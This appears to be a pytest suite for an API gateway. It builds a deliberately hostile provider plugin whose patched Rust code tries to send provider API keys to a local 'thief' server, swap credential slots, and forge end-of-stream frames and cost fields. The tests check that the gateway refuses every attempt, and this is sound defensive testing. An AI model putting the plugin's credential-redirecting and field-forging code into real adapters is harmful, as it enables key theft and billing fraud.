"""Egress pinning and stream integrity against a hostile provider adapter.

The adapter is built here from the `tollgate plugin new` scaffold, with its
`request()` changed to send wherever, and with whatever credential slot, its
upstream model name says (`<slot>[@<url>]`), and its chunks changed to forge
frames or host fields (`forge-done`, `forge-cost`). It is published and
installed for three providers the way any registry adapter would be. In every
case the provider's key must reach only the provider's own origin, the caller
must get a documented error or a correct answer, and the next request must be
fine."""

import json
import os
import shutil
import subprocess
import tempfile
import threading
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from conftest import BIN, ROOT, free_port, wait_healthy

SECRETS = ["sk-acme-secret", "sk-hdr-secret", "aws-secret-key", "AKIDHOSTILE"]

HOSTILE_CODE = r'''

/// Where this hostile build sends the request and which slot it asks for,
/// from the upstream model name `<slot>[@<url>]`.
fn hostile_target(ctx: &CallContext) -> (String, AuthSlot) {
    let (mode, base) = match ctx.upstream_model.split_once('@') {
        Some((mode, url)) => (mode, url.to_owned()),
        None => (ctx.upstream_model.as_str(), ctx.base_url.clone()),
    };
    let url = format!("{}/chat/completions", base.trim_end_matches('/'));
    let slot = if let Some(name) = mode.strip_prefix("header:") {
        AuthSlot::Header(name.to_owned())
    } else if let Some(name) = mode.strip_prefix("query:") {
        AuthSlot::Query(name.to_owned())
    } else if let Some(service) = mode.strip_prefix("sigv4:") {
        AuthSlot::AwsSigv4(service.to_owned())
    } else {
        AuthSlot::Bearer
    };
    (url, slot)
}

/// Host-owned fields a hostile build writes into every answer and chunk.
fn forge_fields(ctx: &CallContext, object: &mut RawObject<'_>) -> Result<(), AdapterError> {
    if ctx.upstream_model != "forge-cost" {
        return Ok(());
    }
    use tollgate_plugin_sdk::serde_json::json;
    let fail = |e: tollgate_plugin_sdk::serde_json::Error| AdapterError::internal(e.to_string());
    object.insert("provider", "evil").map_err(fail)?;
    object.insert("service", &json!({"cost_usd": "0", "request_id": "forged"})).map_err(fail)?;
    object.insert("usage", &json!({"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2, "cost": 0})).map_err(fail)?;
    Ok(())
}
'''


def patch_scaffold(lib: Path) -> None:
    text = lib.read_text()
    replacements = [
        ('url: format!("{}/chat/completions", self.ctx.base_url.trim_end_matches(\'/\')),',
         "url: hostile_target(&self.ctx).0,"),
        ("auth: AuthSlot::Bearer,", "auth: hostile_target(&self.ctx).1,"),
        ('object.remove("provider");', 'object.remove("provider");\n        forge_fields(&self.ctx, object)?;'),
        ("chunks.push(self.rewrite(&mut chunk)?);",
         "let mut bytes = self.rewrite(&mut chunk)?;\n"
         "                if self.ctx.upstream_model == \"forge-done\" {\n"
         "                    bytes.extend_from_slice(b\"\\n\\ndata: [DONE]\\n\\n\");\n"
         "                }\n"
         "                chunks.push(bytes);"),
    ]
    for old, new in replacements:
        assert text.count(old) == 1, f"the scaffold changed: {old!r} not found once"
        text = text.replace(old, new)
    lib.write_text(text + HOSTILE_CODE)


class Recorder:
    """An HTTP server that records every request; `redirect_to` makes it answer
    307 to another origin, else it answers a chat completion."""

    def __init__(self, redirect_to: str | None = None) -> None:
        self.requests: list[dict] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802 (http.server's naming)
                length = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(length).decode(errors="replace")
                recorder.requests.append({"path": self.path, "headers": {k.lower(): v for k, v in self.headers.items()}, "body": body})
                if redirect_to:
                    self.send_response(307)
                    self.send_header("location", redirect_to + self.path)
                    self.send_header("content-length", "0")
                    self.end_headers()
                    return
                answer = json.dumps({
                    "id": "chatcmpl-recorded", "object": "chat.completion", "created": 1, "model": "m",
                    "choices": [{"index": 0, "message": {"role": "assistant", "content": "recorded"},
                                 "finish_reason": "stop"}],
                    "usage": {"prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4}}).encode()
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def text(self) -> str:
        return json.dumps(self.requests)

    def close(self) -> None:
        self.server.shutdown()


def tollgate(*args: str, env: dict, cwd: Path | None = None) -> str:
    out = subprocess.run([BIN, *args], env=env, cwd=cwd, capture_output=True, text=True)
    assert out.returncode == 0, f"tollgate {' '.join(args)} failed:\n{out.stdout}\n{out.stderr}"
    return out.stdout


def post(url: str, key: str, body: dict) -> tuple[int, bytes]:
    request = urllib.request.Request(f"{url}/v1/chat/completions", data=json.dumps(body).encode(),
                                     headers={"authorization": f"Bearer {key}", "content-type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


@pytest.fixture(scope="module")
def hostile(stack):
    if shutil.which("cargo") is None:
        pytest.fail("cargo is needed to build the hostile adapter")
    env = {k: v for k, v in os.environ.items() if not k.startswith("CARGO_") and k != "RUSTFLAGS"}
    with tempfile.TemporaryDirectory() as d:
        workdir = Path(d)
        plugin = workdir / "hostile"
        tollgate("plugin", "new", "hostile", "--namespace", "evil", "--dir", str(plugin), env=env)
        patch_scaffold(plugin / "src" / "lib.rs")
        build_env = {**env, "CARGO_TARGET_DIR": str(ROOT / "target" / "plugin-guide")}
        built = subprocess.run(["cargo", "build", "--release", "--target", "wasm32-wasip2"],
                               cwd=plugin, env=build_env, capture_output=True, text=True)
        assert built.returncode == 0, built.stderr
        wasm = ROOT / "target" / "plugin-guide" / "wasm32-wasip2" / "release" / "hostile.wasm"

        thief = Recorder()
        own_aws = Recorder()
        redirector = Recorder(redirect_to=thief.url)
        port = free_port()
        config = workdir / "tollgate.toml"
        config.write_text(f'listen = "127.0.0.1:{port}"\ndata_dir = "{workdir}/data"\n')
        account = json.loads(tollgate("admin", "create-account", "--config", str(config),
                                      "--name", "hostile", "--credit-usd", "5", "--json", env=env))
        price = 'input_price_per_mtok = "1", output_price_per_mtok = "2"'
        acme_models = {
            "ok": "small",
            "steal-bearer": f"bearer@{thief.url}",
            "steal-header": f"header:x-stolen-key@{thief.url}",
            "own-origin-other-header": "header:x-stolen-key",
            "steal-query": f"query:key@{thief.url}",
            "own-origin-query": "query:key",
            "forge-done": "forge-done",
            "forge-cost": "forge-cost",
        }
        listed = ",\n".join(f'  {{ id = "{m}", upstream = "{u}", {price} }}' for m, u in acme_models.items())
        config.write_text(config.read_text() + f"""
[providers.acme]
base_url = "{stack.mock_url}/v1"
api_key = "sk-acme-secret"
models = [
{listed}
]
[providers.hdr]
base_url = "{redirector.url}/v1"
api_key = "sk-hdr-secret"
auth = "header"
auth_header = "x-api-key"
models = [{{ id = "follow", upstream = "header:x-api-key", {price} }}]
[providers.aws]
base_url = "{own_aws.url}"
api_key = "AKIDHOSTILE:aws-secret-key"
auth = "aws-sigv4"
aws_service = "bedrock"
aws_region = "us-west-2"
models = [
  {{ id = "swap", upstream = "sigv4:s3", {price} }},
  {{ id = "signed", upstream = "sigv4:bedrock", {price} }},
]
[registry]
operator_workspaces = ["{account["workspace_id"]}"]
""")
        gateway = subprocess.Popen([BIN, "serve", "--config", str(config)], env={**env, "RUST_LOG": "warn"},
                                   stdout=subprocess.DEVNULL)
        try:
            url = f"http://127.0.0.1:{port}"
            wait_healthy(url, gateway)
            client_env = {**env, "TOLLGATE_URL": url, "TOLLGATE_API_KEY": account["api_key"]}
            tollgate("namespaces", "create", "evil", env=client_env)
            tollgate("package", "publish", str(wasm), env=client_env, cwd=plugin)
            for provider in ["acme", "hdr", "aws"]:
                tollgate("plugin", "install", "evil/hostile@0.1.0", "--provider", provider, env=client_env)
            yield {"url": url, "key": account["api_key"], "thief": thief, "own_aws": own_aws,
                   "redirector": redirector}
        finally:
            gateway.terminate()
            gateway.wait(timeout=10)
            for server in (thief, own_aws, redirector):
                server.close()


def ask(model: str, stream: bool = False) -> dict:
    return {"model": model, "stream": stream, "messages": [{"role": "user", "content": "hello"}]}


def assert_next_request_is_fine(h) -> None:
    status, body = post(h["url"], h["key"], ask("acme/ok"))
    assert status == 200, body
    assert json.loads(body)["choices"][0]["message"]["content"]


def assert_nothing_reached(recorder: Recorder) -> None:
    assert recorder.requests == [], f"a request left the provider's origin: {recorder.text()}"


@pytest.mark.parametrize("model, refused", [
    ("acme/steal-bearer", "refused to send to http://127.0.0.1:"),
    ("acme/steal-header", "refused to send to http://127.0.0.1:"),
    ("acme/steal-query", "refused to send to http://127.0.0.1:"),
    ("acme/own-origin-other-header", "refused credential slot header 'x-stolen-key'"),
    ("acme/own-origin-query", "refused credential slot query parameter 'key'"),
])
def test_the_key_never_leaves_the_providers_origin(hostile, model, refused):
    status, body = post(hostile["url"], hostile["key"], ask(model))
    error = json.loads(body)["error"]
    assert status == 502 and error["code"] == "adapter_failed", body
    assert refused in error["message"] and "evil/hostile@0.1.0" in error["message"], error
    assert not any(secret in body.decode() for secret in SECRETS)
    assert_nothing_reached(hostile["thief"])
    assert_next_request_is_fine(hostile)


def test_a_sigv4_service_swap_is_refused_and_the_declared_service_signs(hostile):
    own = hostile["own_aws"]
    status, body = post(hostile["url"], hostile["key"], ask("aws/swap"))
    error = json.loads(body)["error"]
    assert status == 502 and error["code"] == "adapter_failed", body
    assert "aws-sigv4 's3'" in error["message"], error
    assert own.requests == [], "nothing was signed for another service"
    status, body = post(hostile["url"], hostile["key"], ask("aws/signed"))
    assert status == 200, body
    authorization = own.requests[-1]["headers"]["authorization"]
    assert "/us-west-2/bedrock/aws4_request" in authorization, authorization
    assert "aws-secret-key" not in own.text()
    assert_next_request_is_fine(hostile)


def test_a_redirect_to_another_origin_is_not_followed(hostile):
    status, body = post(hostile["url"], hostile["key"], ask("hdr/follow"))
    assert status >= 500 and json.loads(body)["error"]["code"], body
    redirector = hostile["redirector"].requests
    assert redirector and redirector[-1]["headers"].get("x-api-key") == "sk-hdr-secret", \
        "the provider's own origin got the key in its declared header"
    assert_nothing_reached(hostile["thief"])
    assert_next_request_is_fine(hostile)


def sse_payloads(raw: bytes) -> list[str]:
    events = [e for e in raw.decode().split("\n\n") if e.strip()]
    payloads = []
    for event in events:
        lines = [line[len("data: "):] for line in event.split("\n") if line.startswith("data: ")]
        payloads.append("\n".join(lines))
    return payloads


def test_a_chunk_cannot_forge_the_end_of_the_stream(hostile):
    status, raw = post(hostile["url"], hostile["key"], ask("acme/forge-done", stream=True))
    assert status == 200
    payloads = sse_payloads(raw)
    assert payloads.count("[DONE]") == 1 and payloads[-1] == "[DONE]", payloads
    last = json.loads(payloads[-2])
    assert last["choices"][0]["finish_reason"] == "error", last
    assert last["error"]["code"] == "adapter_failed", last
    assert "not a single JSON object" in last["error"]["message"], last
    assert last["provider"] == "acme"
    assert_next_request_is_fine(hostile)


def test_only_the_host_states_provider_cost_and_service(hostile):
    status, raw = post(hostile["url"], hostile["key"], ask("acme/forge-cost"))
    assert status == 200, raw
    assert raw.count(b'"cost"') == 1, raw
    answer = json.loads(raw)
    assert answer["provider"] == "acme"
    assert answer["service"]["request_id"].startswith("req_")
    assert answer["usage"]["cost"] > 0
    assert f'{answer["usage"]["cost"]:.9f}' == answer["service"]["cost_usd"], answer

    status, raw = post(hostile["url"], hostile["key"], ask("acme/forge-cost", stream=True))
    assert status == 200
    payloads = sse_payloads(raw)
    assert payloads[-1] == "[DONE]"
    chunks = [json.loads(p) for p in payloads[:-1]]
    assert all(c["provider"] == "acme" for c in chunks), chunks
    assert all("service" not in c and "cost" not in c.get("usage", {}) for c in chunks[:-1]), chunks
    closing = chunks[-1]
    assert closing["service"]["request_id"].startswith("req_"), closing
    assert closing["usage"]["cost"] > 0
    assert f'{closing["usage"]["cost"]:.9f}' == closing["service"]["cost_usd"], closing
    assert_next_request_is_fine(hostile)
